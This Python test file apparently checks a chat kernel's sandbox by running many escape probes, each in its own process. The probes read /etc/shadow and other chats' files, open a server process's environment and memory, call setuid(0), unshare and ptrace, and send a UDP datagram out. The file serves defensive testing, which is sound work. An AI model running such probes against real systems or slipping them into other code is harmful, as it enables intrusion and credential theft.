"""Ways out of a sandbox, tried from inside. This file is run in the kernel as it stands: standard library only.

An attack gets `t`, what is out there to be reached, and returns whether it got there; an `OSError` is a wall. Each has
a process of its own, so that none spoils the next. Where the kernel cannot see whether it got through, the server
looks afterwards (`test_attacks.py`).
"""

from __future__ import annotations

import ctypes
import errno
import os
import select
import signal
import socket
import stat
import struct
from collections.abc import Callable
from typing import Any

World = dict[str, Any]
Attack = Callable[[World], object]

ATTACKS: dict[str, tuple[int, bool, Attack]] = {}


def attack(row: int, *, harmless: bool = True) -> Callable[[Attack], Attack]:
    """Registers an attack under its row in the table. `harmless`: it may also be tried where nothing confines it."""

    def register(function: Attack) -> Attack:
        ATTACKS[function.__name__] = (row, harmless, function)
        return function

    return register


def _read(path: str) -> bool:
    with open(path, "rb") as file:
        return b"secret" in file.read(1 << 20)


def _syscall(t: World, name: str, *arguments: Any) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.syscall(t["numbers"][name], *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if done < 0:
        raise OSError(ctypes.get_errno(), name)
    return done


# --- files -----------------------------------------------------------------------------------------------------------


@attack(1)
def read_a_secret_in_a_home(t: World) -> object:
    return _read(t["secret"])


@attack(2)
def read_a_connection_file_of_the_server(t: World) -> object:
    return _read(t["connection_file"])


@attack(3)
def read_another_chats_file(t: World) -> object:
    return _read(t["other_file"])


@attack(4)
def read_another_chats_file_by_dots(t: World) -> object:
    return _read(os.path.relpath(t["other_file"]))


@attack(5)
def list_all_chats(t: World) -> object:
    return t["other_id"] in os.listdir(t["chats"])


@attack(6)
def write_into_another_chat(t: World) -> object:
    open(t["other_new"], "w").close()


@attack(7)
def write_outside(t: World) -> object:
    open(t["outside_new"], "w").close()


@attack(8)
def write_into_the_hosts_tmp(t: World) -> object:
    open(t["tmp_new"], "w").close()


@attack(9, harmless=False)
def poison_a_library(t: World) -> object:
    open(t["library_new"], "w").close()


@attack(10, harmless=False)
def poison_the_interpreters_startup(t: World) -> object:
    open(t["startup_new"], "w").close()


@attack(11)
def read_a_secret_through_a_symlink(t: World) -> object:
    os.symlink(t["secret"], "way-out")
    return _read("way-out")


@attack(12)
def link_another_chats_file(t: World) -> object:
    os.link(t["other_file"], "linked")
    return _read("linked")


@attack(13)
def read_a_secret_through_own_root(t: World) -> object:
    return _read("/proc/self/root" + t["secret"])


@attack(14)
def read_a_secret_through_the_first_process(t: World) -> object:
    return _read("/proc/1/root" + t["secret"])


@attack(50)
def read_the_password_file(t: World) -> object:
    with open("/etc/shadow") as file:
        return "root:" in file.read()


@attack(51)
def learn_the_accounts(t: World) -> object:
    with open("/etc/passwd") as file:
        return "root:" in file.read()


@attack(52)
def read_the_systems_logs(t: World) -> object:
    return bool(os.listdir("/var/log"))


@attack(53)
def list_a_home(t: World) -> object:
    return bool(set(os.listdir(t["home"])) & set(t["home_names"]))


@attack(54)
def read_shared_memory_of_others(t: World) -> object:
    return _read(t["shm"])


@attack(55)
def read_a_disk(t: World) -> object:
    disks = [name for name in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0") if os.path.exists(name)]
    with open(disks[0] if disks else "/dev/vda", "rb") as file:
        return bool(file.read(1))


@attack(56)
def read_the_kernels_messages(t: World) -> object:
    os.close(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
    return True


@attack(57)
def read_sysfs(t: World) -> object:
    return bool(os.listdir("/sys/kernel"))


@attack(59, harmless=False)
def write_a_control_group(t: World) -> object:
    with open("/sys/fs/cgroup/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))
    return True


@attack(60)
def see_other_terminals(t: World) -> object:
    return any(name.isdigit() and int(name) in t["terminals"] for name in os.listdir("/dev/pts")) and bool(
        t["terminals"]
    )


@attack(64)
def open_a_file_by_its_handle(t: World) -> object:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    path = ctypes.c_char_p(t["secret"].encode())
    _syscall(t, "name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0)
    folder = os.open(".", os.O_RDONLY)
    return os.read(_syscall(t, "open_by_handle_at", folder, handle, 0), 6) == b"secret"


@attack(92)
def change_the_mode_of_a_file_outside(t: World) -> object:
    os.chmod(t["touchable"], 0o777)


@attack(93)
def change_the_times_of_a_file_outside(t: World) -> object:
    os.utime(t["touchable"], (1, 1))


@attack(94)
def mark_a_file_outside_with_an_attribute(t: World) -> object:
    os.setxattr(t["touchable"], "user.mark", b"1")


@attack(95)
def empty_a_file_outside_by_name(t: World) -> object:
    os.truncate(t["touchable"], 0)


@attack(96)
def move_a_file_outside(t: World) -> object:
    os.rename(t["movable"], t["movable"] + ".moved")


@attack(97)
def find_a_descriptor_that_was_left_open(t: World) -> object:
    found = []
    for number in range(3, 1024):
        try:
            state = os.fstat(number)
        except OSError:
            continue
        if stat.S_ISDIR(state.st_mode) or (stat.S_ISREG(state.st_mode) and state.st_ino != t["log"]):
            found.append(number)
    return bool(found)


@attack(98, harmless=False)
def set_the_systems_core_pattern(t: World) -> object:
    with open("/proc/sys/kernel/core_pattern", "r+") as file:
        return bool(file.read())


@attack(99, harmless=False)
def write_into_the_device_folder(t: World) -> object:
    open("/dev/filled", "w").close()
    return True


# --- processes -------------------------------------------------------------------------------------------------------


@attack(15)
def read_the_servers_environment(t: World) -> object:
    with open(f"/proc/{t['server']}/environ", "rb") as file:
        return bool(file.read(1))


@attack(16)
def list_the_servers_folder(t: World) -> object:
    return bool(os.listdir(f"/proc/{t['server']}/cwd"))


@attack(17)
def list_the_servers_descriptors(t: World) -> object:
    return bool(os.listdir(f"/proc/{t['server']}/fd"))


@attack(18)
def read_anothers_command_line(t: World) -> object:
    return _read(f"/proc/{t['victim']}/cmdline")


@attack(19)
def open_the_servers_memory(t: World) -> object:
    os.close(os.open(f"/proc/{t['server']}/mem", os.O_RDWR))
    return True


@attack(20)
def see_the_server_among_processes(t: World) -> object:
    return str(t["server"]) in os.listdir("/proc")


@attack(21)
def see_processes_by_ps(t: World) -> object:
    with os.popen("ps -eo pid 2>/dev/null") as found:
        return str(t["server"]) in found.read().split()


@attack(22)
def signal_the_server(t: World) -> object:
    os.kill(t["server"], 0)
    return True


@attack(23)
def kill_anothers_process(t: World) -> object:
    os.kill(t["victim"], signal.SIGTERM)


@attack(24)
def trace_another_process(t: World) -> object:
    _syscall(t, "ptrace", 16, t["victim"], 0, 0)
    return True


@attack(25)
def read_another_process_memory(t: World) -> object:
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(t["address"], 8)
    return _syscall(t, "process_vm_readv", t["server"], local, 1, remote, 1, 0) > 0


@attack(26)
def take_anothers_descriptor(t: World) -> object:
    return _syscall(t, "pidfd_getfd", os.pidfd_open(t["victim"]), 0, 0) >= 0


@attack(27)
def find_a_token_in_the_environment(t: World) -> object:
    return any("secret" in value for value in os.environ.values())


@attack(47, harmless=False)
def change_the_root(t: World) -> object:
    os.chroot(".")
    return True


@attack(48, harmless=False)
def become_root(t: World) -> object:
    os.setuid(0)
    return True


@attack(100)
def gain_privileges_by_a_setuid_program(t: World) -> object:
    return ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) != 1  # no_new_privs is not set


@attack(61, harmless=False)
def take_a_higher_priority(t: World) -> object:
    os.nice(-10)
    return True


@attack(62, harmless=False)
def raise_own_limits(t: World) -> object:
    import resource

    try:
        resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except ValueError as error:
        raise PermissionError(errno.EPERM, "refused") from error
    return True


@attack(63)
def change_the_personality(t: World) -> object:
    return _syscall(t, "personality", 0x0040000) >= 0


@attack(58)
def learn_the_machines_name(t: World) -> object:
    return os.uname().nodename == t["hostname"]


# --- network ---------------------------------------------------------------------------------------------------------


@attack(28)
def reach_a_server_by_tcp(t: World) -> object:
    socket.create_connection(("127.0.0.1", t["tcp"]), 2).close()
    return True


@attack(29)
def reach_a_server_by_tcp_fast_open(t: World) -> object:
    peer = socket.socket()
    peer.settimeout(2)
    peer.sendto(b"secret", 0x20000000, ("127.0.0.1", t["tcp"]))
    return True


@attack(30)
def reach_a_server_by_udp(t: World) -> object:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", t["udp"]))


@attack(31, harmless=False)
def send_a_name_to_a_name_server(t: World) -> object:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.1", 53))
    return True


@attack(32)
def open_a_raw_socket(t: World) -> object:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return True


@attack(33)
def open_a_packet_socket(t: World) -> object:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
    return True


@attack(34)
def see_network_interfaces(t: World) -> object:
    return any(name != "lo" for _, name in socket.if_nameindex())


@attack(35)
def reach_the_hypervisor(t: World) -> object:
    socket.socket(40, socket.SOCK_STREAM).close()
    return True


@attack(36)
def reach_a_unix_socket_by_its_path(t: World) -> object:
    socket.socket(socket.AF_UNIX).connect(t["unix"])
    return True


@attack(37)
def send_to_a_unix_socket(t: World) -> object:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"secret", t["dgram"])
    return True


@attack(38)
def reach_an_abstract_socket(t: World) -> object:
    socket.socket(socket.AF_UNIX).connect("\0" + t["abstract"])
    return True


# --- the system's kernel ---------------------------------------------------------------------------------------------


@attack(39)
def make_an_io_uring(t: World) -> object:
    return _syscall(t, "io_uring_setup", 4, ctypes.create_string_buffer(248)) >= 0


@attack(40, harmless=False)
def make_a_user_namespace(t: World) -> object:
    return _syscall(t, "unshare", 0x10000000) == 0


@attack(41, harmless=False)
def make_a_namespace_by_clone3(t: World) -> object:
    arguments = ctypes.create_string_buffer(struct.pack("11Q", 0x10000000, *[0] * 3, signal.SIGCHLD, *[0] * 6))
    child = _syscall(t, "clone3", arguments, 88)
    if child == 0:
        os._exit(0)
    return True


@attack(101, harmless=False)
def make_a_namespace_by_clone(t: World) -> object:
    child = _syscall(t, "clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return True


@attack(42, harmless=False)
def mount_something(t: World) -> object:
    return _syscall(t, "mount", ctypes.c_char_p(b"none"), ctypes.c_char_p(b"."), ctypes.c_char_p(b"tmpfs"), 0, 0) == 0


@attack(43)
def load_a_bpf_program(t: World) -> object:
    return _syscall(t, "bpf", 0, ctypes.create_string_buffer(struct.pack("4I", 2, 4, 4, 1) + bytes(104)), 120) >= 0


@attack(44)
def use_the_key_ring(t: World) -> object:
    names = ctypes.c_char_p(b"user"), ctypes.c_char_p(b"mark"), ctypes.c_char_p(b"x")
    return _syscall(t, "add_key", *names, 1, -3) >= 0


@attack(45)
def count_the_machines_events(t: World) -> object:
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + bytes(96))
    return _syscall(t, "perf_event_open", attributes, 0, -1, -1, 0) >= 0


@attack(46)
def watch_page_faults(t: World) -> object:
    return _syscall(t, "userfaultfd", 0) >= 0


@attack(49)
def type_into_a_terminal(t: World) -> object:
    import fcntl

    _, terminal = os.openpty()
    fcntl.ioctl(terminal, 0x5412, b"x")
    return True


@attack(102)
def make_a_nameless_memory_file(t: World) -> object:
    return _syscall(t, "memfd_create", ctypes.c_char_p(b"x"), 0) >= 0


# --- trying them -----------------------------------------------------------------------------------------------------


def outcome_of(function: Attack, t: World) -> str:
    """`ESCAPED`, the name of the error that stopped it, `nothing`, or what is wrong with the attack itself."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(5)
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
        try:
            words = "ESCAPED" if function(t) else "nothing"
        except OSError as error:
            words = "timeout" if isinstance(error, TimeoutError) else errno.errorcode.get(error.errno, "OSError")
        except BaseException as error:
            words = f"BROKEN: {type(error).__name__}: {error}"
        os.write(writing, words.encode())
        os._exit(0)
    os.close(writing)
    said = os.read(reading, 1000).decode() if select.select([reading], [], [], 6)[0] else ""
    os.close(reading)
    _, status = os.waitpid(child, 0)
    return said or f"killed by {os.WTERMSIG(status)}"


def try_all(t: World, *, harmless_only: bool) -> dict[str, str]:
    """What became of each attack, by its name."""
    return {
        name: outcome_of(function, t)
        for name, (_, harmless, function) in ATTACKS.items()
        if harmless or not harmless_only
    }
